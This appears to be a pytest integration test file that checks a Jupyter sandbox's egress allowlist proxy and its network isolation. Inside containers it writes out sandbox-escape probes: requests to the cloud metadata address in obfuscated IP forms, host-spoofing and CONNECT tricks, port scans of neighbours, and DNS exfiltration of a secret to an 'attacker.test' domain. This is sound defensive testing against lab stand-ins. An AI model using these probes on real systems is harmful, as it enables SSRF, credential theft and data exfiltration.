"""Network policy on the real engine: `disabled` has no network; an allowlist goes through the
egress proxy (squid) and nowhere else. Every upstream is the tests' own (test_network_lab)."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest

from jupyter_sandbox import APIError, Client
from tests.integration.test_network_lab import Lab, egress_client, lab

__all__ = ["egress_client", "lab"]  # fixtures, re-exported for pytest

pytestmark = pytest.mark.docker

PRELUDE = r"""
import json, os, socket, ssl, time, urllib.error, urllib.request
PROXY = os.environ.get("HTTP_PROXY", "http://0.0.0.0:0")
PROXY_HOST, PROXY_PORT = PROXY.rsplit("/", 1)[-1].rsplit(":", 1)
def fetch(url, cafile="/tmp/lab-ca.pem"):
    context = ssl.create_default_context(cafile=cafile) if url.startswith("https") else None
    try:
        with urllib.request.urlopen(url, timeout=20, context=context) as response:
            return [response.status, response.read().decode()]
    except urllib.error.HTTPError as exc:
        return [exc.code, exc.read().decode()]
    except Exception as exc:
        return ["error", f"{type(exc).__name__}: {exc}"]
def raw(request):
    with socket.create_connection((PROXY_HOST, int(PROXY_PORT)), timeout=20) as sock:
        sock.sendall(request.encode())
        data = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
            head, sep, body = data.partition(b"\r\n\r\n")
            if sep and b"content-length:" in head.lower():
                length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
                if len(body) >= length:
                    break
            elif sep and request.startswith("CONNECT"):
                break
    return [int(data.split(b" ", 2)[1]), data.partition(b"\r\n\r\n")[2].decode(errors="replace")]
def tcp(host, port, timeout=1.0):
    started = time.monotonic()
    try:
        socket.create_connection((host, port), timeout=timeout).close()
        return ["open", round(time.monotonic() - started, 2)]
    except OSError as exc:
        return [type(exc).__name__, round(time.monotonic() - started, 2)]
def dns_query(name, server, timeout=2.0):
    import struct
    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(timeout)
    try:
        sock.sendto(query, (server, 53))
        return ["answer", sock.recv(512).hex()]
    except OSError as exc:
        return [type(exc).__name__, str(exc)]
"""


def run(client: Client, container_id: str, code: str) -> Any:
    """Run code whose last line prints JSON; return the parsed value."""
    execution = client.containers.execute(container_id, code, timeout=120)
    assert execution.status == "ok", execution
    return json.loads(execution.stdout.strip().splitlines()[-1])


def prepare(client: Client, container_id: str, lab: Lab) -> None:
    code = PRELUDE + f"\nopen('/tmp/lab-ca.pem', 'w').write({lab.cert_pem!r})\nprint('{{}}')"
    run(client, container_id, code)


def test_disabled_has_no_network_at_all(client: Client) -> None:
    container = client.containers.create(name="offline")
    try:
        result = run(
            client,
            container.id,
            PRELUDE
            + """
def resolve(name):
    try:
        socket.getaddrinfo(name, 80)
        return "resolved"
    except OSError as exc:
        return type(exc).__name__
print(json.dumps({
    "interfaces": sorted(os.listdir("/sys/class/net")),
    "resolve": resolve("allowed.test"),
    "tcp": tcp("192.0.2.1", 80),
    "udp53": dns_query("zzsecret.test", "192.0.2.1"),
    "proxy_env": sorted(k for k in os.environ if "proxy" in k.lower()),
}))""",
        )
    finally:
        client.containers.delete(container.id)
    assert result["interfaces"] == ["lo"]
    assert result["resolve"] == "gaierror"
    assert result["tcp"][0] == "OSError"
    assert result["tcp"][1] < 0.1
    assert result["udp53"][0] == "OSError"
    assert result["proxy_env"] == []


def test_allowlist_http_https_and_every_refusal(egress_client: Client, lab: Lab) -> None:
    client = egress_client
    container = client.containers.create(
        name="weather",
        network_policy={
            "type": "allowlist",
            # the seed's spelling; the response uses allowed_domains
            "domains": [
                "allowed.test", "*.wild.test", "private.test", "loopback.test", "metadata.test",
                "cgnat.test", "azure.test", "v6meta.test", "internal.test", "mixed.test",
            ],
        },
    )  # fmt: skip
    try:
        assert container.network_policy["allowed_domains"][:2] == ["allowed.test", "*.wild.test"]
        prepare(client, container.id, lab)
        up = lab.upstream_ip
        result = run(
            client,
            container.id,
            f"""print(json.dumps({{
    "env": {{k: os.environ.get(k) for k in ("HTTP_PROXY", "https_proxy", "NO_PROXY")}},
    "http": fetch("http://allowed.test/"),
    "https": fetch("https://allowed.test/"),
    "wild": fetch("https://a.wild.test/"),
    "deep": fetch("http://deep.a.wild.test/"),
    "trailing_dot_case": fetch("http://ALLOWED.test./"),
    "bare_wild": fetch("http://wild.test/"),
    "other": fetch("http://other.test/"),
    "other_tls": fetch("https://other.test/"),
    "suffix_trick": fetch("http://allowed.test.other.test/"),
    "userinfo_trick": fetch("http://allowed.test@other.test/"),
    "ip_upstream": fetch("http://{up}/"),
    "ip_metadata": fetch("http://169.254.169.254/latest/meta-data/"),
    "ip_decimal": fetch("http://2852039166/"),
    "ip_hex": fetch("http://0xa9fea9fe/"),
    "ip_v6": raw("GET http://[::ffff:169.254.169.254]/ HTTP/1.1\\r\\n"
                 "Connection: close\\r\\n\\r\\n"),
    "ip_connect": raw("CONNECT {up}:443 HTTP/1.1\\r\\n\\r\\n"),
    "private": fetch("http://private.test/"),
    "loopback": fetch("http://loopback.test/"),
    "metadata": fetch("http://metadata.test/"),
    "cgnat": fetch("http://cgnat.test/"),
    "azure": fetch("http://azure.test/"),
    "v6meta": fetch("http://v6meta.test/"),
    "internal": fetch("https://internal.test/"),
    "mixed": fetch("http://mixed.test/"),
    "port_22": raw("CONNECT allowed.test:22 HTTP/1.1\\r\\n\\r\\n"),
    "port_25": raw("CONNECT allowed.test:25 HTTP/1.1\\r\\n\\r\\n"),
    "port_6379": raw("CONNECT allowed.test:6379 HTTP/1.1\\r\\n\\r\\n"),
    "port_8443": raw("CONNECT allowed.test:8443 HTTP/1.1\\r\\n\\r\\n"),
    "http_443": raw("GET http://allowed.test:8080/ HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n"),
    "host_spoof": raw("GET http://allowed.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n"
                      "Connection: close\\r\\n\\r\\n"),
    "host_spoof_denied": raw("GET http://other.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n"
                             "Connection: close\\r\\n\\r\\n"),
    "connect_spoof": raw("CONNECT other.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n"),
}}))""",
        )
        time.sleep(0.5)  # squid writes a tunnel's line when the client's side has closed
        log = client.containers.egress_log(container.id)
    finally:
        client.containers.delete(container.id)

    proxy = result["env"]["HTTP_PROXY"]
    assert proxy.startswith("http://198.18.")
    assert proxy.endswith(":3128")
    assert result["env"] == {
        "HTTP_PROXY": proxy,
        "https_proxy": proxy,
        "NO_PROXY": proxy and "localhost,127.0.0.1,::1",
    }
    # allowed: plain HTTP and HTTPS through CONNECT (TLS verified against the lab's cert)
    assert result["http"] == [200, "hello from upstream host=allowed.test\n"]
    assert result["https"] == [200, "hello from upstream host=allowed.test\n"]
    assert result["wild"] == [200, "hello from upstream host=a.wild.test\n"]
    assert result["deep"][0] == 200
    assert result["trailing_dot_case"][0] == 200
    # refused by the list, with a body that says what and why
    refused = [
        ("bare_wild", "wild.test"),
        ("other", "other.test"),
        ("suffix_trick", "allowed.test.other.test"),
        ("userinfo_trick", "other.test"),
    ]
    for key, host in refused:
        assert result[key][0] == 403, key
        assert (
            f"egress to {host} blocked by network policy (allowlist: allowed.test" in result[key][1]
        ), key
    assert result["other_tls"][0] == "error"
    assert result["other_tls"][1].startswith(
        "URLError: <urlopen error Tunnel connection failed: 403 Forbidden: "
        "egress to other.test blocked by network policy (allowlist: allowed.test"
    )
    for key in ("ip_upstream", "ip_metadata", "ip_decimal", "ip_hex", "ip_v6", "ip_connect"):
        assert result[key][0] == 403, key
        assert "IP addresses are not allowed" in result[key][1], (key, result[key])
    for key in ("private", "loopback", "metadata", "cgnat", "azure", "mixed"):
        assert result[key][0] == 403, key
        assert "resolves to a private, loopback, link-local or metadata address" in result[key][1]
    # IPv6 is off in the proxy: an AAAA-only name cannot be connected to at all (502).
    assert result["v6meta"][0] in (403, 502), result["v6meta"]
    assert result["internal"][0] == "error"
    assert "403" in result["internal"][1]
    for key in ("port_22", "port_25", "port_6379", "port_8443"):
        assert result[key][0] == 403, key
        assert "only port 443 is allowed" in result[key][1], key
    assert result["http_443"][0] == 403
    # Squid sends the target's name as Host, whatever the client claimed: no fronting.
    assert result["host_spoof"] == [200, "hello from upstream host=allowed.test\n"]
    assert result["host_spoof_denied"][0] == 403
    assert result["connect_spoof"][0] == 403

    # Nothing refused ever reached a server: only the allowed names show up upstream,
    # and the internal service saw no connection at all.
    hosts = {line.split("host=")[1].split(":")[0].lower().rstrip(".")
             for line in lab.requests("upstream")}  # fmt: skip
    assert hosts <= {"allowed.test", "a.wild.test", "deep.a.wild.test"}, hosts
    assert lab.connections("internal") == []
    # Names refused by the list were never even resolved.
    queried = set(lab.dns_queries())
    assert not queried & {"other.test", "wild.test", "allowed.test.other.test"}, queried

    # Every request through the proxy has its decision logged, with the reason.
    by_host = [(d.host, d.port, d.decision) for d in log]
    assert ("allowed.test", 80, "allowed") in by_host
    assert ("allowed.test", 443, "allowed") in by_host
    assert ("other.test", 80, "denied") in by_host
    assert ("allowed.test", 22, "denied") in by_host
    reasons = {d.host: d.reason for d in log if d.decision == "denied"}
    assert reasons["other.test"] == "the host is not on the sandbox's allowlist"
    assert reasons["metadata.test"].startswith("the name resolves to a private")
    assert reasons["169.254.169.254"] == "IP address literals are not allowed"
    requests_made = len(result) - 1  # every probe but the environment read
    assert len(log) == requests_made, [(d.host, d.port, d.decision) for d in log]


def test_two_sandboxes_each_get_only_their_own_list(egress_client: Client, lab: Lab) -> None:
    client = egress_client
    first = client.containers.create(
        name="a", network_policy={"type": "allowlist", "allowed_domains": ["allowed.test"]}
    )
    second = client.containers.create(
        name="b", network_policy={"type": "allowlist", "allowed_domains": ["*.wild.test"]}
    )
    try:
        for container in (first, second):
            prepare(client, container.id, lab)
        address = {
            c.id: run(client, c.id, "print(json.dumps(socket.gethostbyname(socket.gethostname())))")
            for c in (first, second)
        }
        probe = """print(json.dumps({{
    "allowed": fetch("http://allowed.test/")[0],
    "wild": fetch("http://a.wild.test/")[0],
    "neighbour": tcp("{neighbour}", 80),
    "neighbour_proxy": tcp("{neighbour_proxy}", 3128),
}}))"""
        results = {}
        for mine, theirs in ((first, second), (second, first)):
            neighbour = address[theirs.id]
            neighbour_proxy = (
                neighbour.rsplit(".", 1)[0] + "." + str(int(neighbour.rsplit(".", 1)[1]) - 1)
            )
            results[mine.id] = run(
                client,
                mine.id,
                probe.format(neighbour=neighbour, neighbour_proxy=neighbour_proxy),
            )
    finally:
        client.containers.delete(first.id)
        client.containers.delete(second.id)
    assert results[first.id]["allowed"] == 200
    assert results[first.id]["wild"] == 403
    assert results[second.id]["allowed"] == 403
    assert results[second.id]["wild"] == 200
    for result in results.values():
        assert result["neighbour"][0] != "open"
        assert result["neighbour_proxy"][0] != "open"


def test_only_the_proxy_port_is_reachable(egress_client: Client, lab: Lab) -> None:
    client = egress_client
    container = client.containers.create(
        name="scan", network_policy={"type": "allowlist", "allowed_domains": ["allowed.test"]}
    )
    try:
        prepare(client, container.id, lab)
        result = run(
            client,
            container.id,
            f"""
base = PROXY_HOST.rsplit(".", 1)[0]
print(json.dumps({{
    "proxy": tcp(PROXY_HOST, int(PROXY_PORT)),
    "proxy_other_ports": [tcp(PROXY_HOST, p)[0] for p in (22, 53, 80, 443, 2375, 3129)],
    "gateway": [tcp(base + ".1", p)[0] for p in (22, 80, 2375)],
    "upstream_direct": tcp("{lab.upstream_ip}", 80),
    "host_docker_bridge": tcp("172.17.0.1", 2375),
    "ipv6_disabled": open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip(),
    "interfaces": sorted(os.listdir("/sys/class/net")),
}}))""",
        )
    finally:
        client.containers.delete(container.id)
    assert result["proxy"][0] == "open"
    assert all(state != "open" for state in result["proxy_other_ports"])
    assert all(state != "open" for state in result["gateway"])
    assert result["upstream_direct"][0] != "open"
    assert result["host_docker_bridge"][0] != "open"
    assert result["ipv6_disabled"] == "1"
    assert result["interfaces"] == ["eth0", "lo"]


def _sniff(needle: bytes, seconds: float, found: list[tuple[str, bytes]]) -> None:
    """Every packet on any host interface that carries `needle` (root only)."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.settimeout(0.2)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data, address = sock.recvfrom(65535)
        except TimeoutError:
            continue
        if needle in data:
            found.append((address[0], data))
    sock.close()


def test_no_dns_query_leaves_an_allowlist_sandbox(egress_client: Client, lab: Lab) -> None:
    """CVE-2024-29018: names never resolve, and 127.0.0.11 forwards only to the proxy, which
    serves no DNS; a host-wide capture shows the secret never leaves the sandbox's network."""
    client = egress_client
    container = client.containers.create(
        name="exfil", network_policy={"type": "allowlist", "allowed_domains": ["allowed.test"]}
    )
    secret = f"zzsecret{int(time.time())}"
    captured: list[tuple[str, bytes]] = []
    sniffer = None
    try:
        prepare(client, container.id, lab)
        can_sniff = (
            subprocess.run(["id", "-u"], capture_output=True, text=True).stdout.strip() == "0"
        )
        if can_sniff:
            sniffer = threading.Thread(target=_sniff, args=(secret.encode(), 12, captured))
            sniffer.start()
            time.sleep(0.3)
        result = run(
            client,
            container.id,
            f"""
def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError as exc:
        return type(exc).__name__
print(json.dumps({{
    "resolv_conf": open("/etc/resolv.conf").read(),
    "getaddrinfo": resolve("{secret}.attacker.test"),
    "getaddrinfo_allowed": resolve("allowed.test"),
    "embedded": dns_query("{secret}.embedded.attacker.test", "127.0.0.11"),
    "proxy": dns_query("{secret}.proxy.attacker.test", PROXY_HOST),
    "authority": dns_query("{secret}.direct.attacker.test", "{lab.upstream_ip}"),
    "via_proxy": fetch("http://{secret}.attacker.test/"),
}}))""",
        )
    finally:
        if sniffer is not None:
            sniffer.join()
        client.containers.delete(container.id)
    assert "nameserver" not in result["resolv_conf"]
    assert result["getaddrinfo"] == "gaierror"
    assert result["getaddrinfo_allowed"] == "gaierror"
    for key in ("embedded", "proxy", "authority"):
        assert result[key][0] != "answer", (key, result[key])
    assert result["via_proxy"][0] == 403
    assert not [q for q in lab.dns_queries() if secret in q]
    if can_sniff:
        leaving = [
            socket.inet_ntoa(data[30:34]) if data[12:14] == b"\x08\x00" else "?"
            for _, data in captured
        ]
        # The sniffer sees the query reach the proxy (which refuses it), and nothing else:
        # no packet carrying the secret goes anywhere but the sandbox's own /29.
        assert leaving, "the capture saw nothing: it cannot prove anything"
        assert all(address.startswith("198.18.") for address in leaving), leaving


def test_proxy_failure_fails_create_and_leaves_nothing(
    make_client: Callable[..., Client], lab: Lab
) -> None:
    client = make_client(**lab.settings, egress_image="jupyter-sandbox-egress:missing")
    with pytest.raises(APIError) as caught:
        client.containers.create(
            name="closed", network_policy={"type": "allowlist", "domains": ["allowed.test"]}
        )
    assert caught.value.param == "network_policy"
    assert "jupyter-sandbox-egress:missing" in caught.value.message
    [record] = client._store.all()
    assert record.status == "failed"


def test_proxy_lifecycle_restart_and_removal(egress_client: Client, lab: Lab) -> None:
    client = egress_client
    proxy = f"jsbx-egress-{client.settings.store_id}"
    container = client.containers.create(
        name="life", network_policy={"type": "allowlist", "allowed_domains": ["allowed.test"]}
    )
    try:
        prepare(client, container.id, lab)
        subprocess.run(["docker", "kill", proxy], capture_output=True, check=True)
        report = client.reconcile()
        assert report.egress
        assert report.egress[0].startswith("restarted egress proxy")
        assert (
            run(client, container.id, 'print(json.dumps(fetch("http://allowed.test/")[0]))') == 200
        )
        subprocess.run(["docker", "rm", "-f", proxy], capture_output=True, check=True)
        client.reconcile()  # recreated, and plugged into the sandbox's network again
        assert (
            run(client, container.id, 'print(json.dumps(fetch("http://allowed.test/")[0]))') == 200
        )
    finally:
        client.containers.delete(container.id)
    gone = subprocess.run(
        ["docker", "ps", "-aq", "--filter", f"name={proxy}"], capture_output=True, text=True
    )
    assert gone.stdout.strip() == ""
    networks = subprocess.run(
        ["docker", "network", "ls", "-q", "--filter",
         f"label=org.jupyter-sandbox.store={client.settings.store_id}"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert networks.stdout.strip() == ""


def _network_exists(name: str) -> bool:
    found = subprocess.run(
        ["docker", "network", "ls", "-q", "--filter", f"name=^{name}$"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return found.stdout.strip() != ""


def test_reconcile_of_a_dead_allowlist_sandbox_releases_its_network(egress_client: Client) -> None:
    """A sandbox killed outside our control is ended by reconcile through the one resource
    owner: its own network, its allowlist on the proxy, its storage and file records, and
    the proxy (no other allowlist sandbox needs it) all go."""
    from jupyter_sandbox.backends.file_store import FileStore

    client = egress_client
    container = client.containers.create(
        name="dies", network_policy={"type": "allowlist", "allowed_domains": ["allowed.test"]}
    )
    client.containers.files.create(container.id, file=b"x", path="/mnt/data/x.txt")
    network = f"jsbx-{container.id}-net"
    proxy = f"jsbx-egress-{client.settings.store_id}"
    policies = client.settings.home / "egress" / "config" / "policies"
    assert _network_exists(network)
    assert len(list(policies.glob("*.json"))) == 1
    subprocess.run(["docker", "kill", f"jsbx-{container.id}"], capture_output=True, check=True)
    deadline = time.monotonic() + 30
    while client._backend.state(container.id) is not None and time.monotonic() < deadline:
        time.sleep(0.1)  # auto-removed once it exits
    assert _network_exists(network)  # nothing of ours has looked yet

    report = client.reconcile()

    assert container.id in report.marked
    record = client._store.get(container.id)
    assert record is not None
    assert record.status == "terminated"
    assert not _network_exists(network)
    assert list(policies.glob("*.json")) == []
    assert FileStore(client._store).container_files(container.id) == {}
    assert not (client.settings.home / "sandboxes" / container.id).exists()
    gone = subprocess.run(
        ["docker", "ps", "-aq", "--filter", f"name=^{proxy}$"], capture_output=True, text=True
    )
    assert gone.stdout.strip() == ""
    assert client.reconcile().marked == []  # once only
